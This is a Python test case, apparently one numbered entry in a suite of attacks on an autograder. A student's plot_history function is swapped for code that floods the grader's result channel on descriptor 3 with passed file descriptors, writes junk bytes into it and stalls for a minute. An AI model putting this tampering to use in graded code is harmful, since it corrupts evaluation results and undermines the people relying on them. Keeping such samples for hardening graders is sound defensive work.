# attack: 32
# form: descriptors of the cell travel over the channel beside the bytes, as many as the kernel lets pass
# replaces: plot_history
# found: plot_history/returns_figure student_error
# says: by writing into the channel that carries the results
def plot_history(history):
    import array
    import socket
    import time

    print("ran")
    channel = socket.socket(fileno=os.dup(3))
    channel.setblocking(True)
    own = [os.open("/dev/null", os.O_RDONLY) for _ in range(200)]
    for _ in range(20):
        try:
            channel.sendmsg([b"GRW0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", own))])
        except OSError:
            break
    os.write(3, bytes(64))
    time.sleep(60)
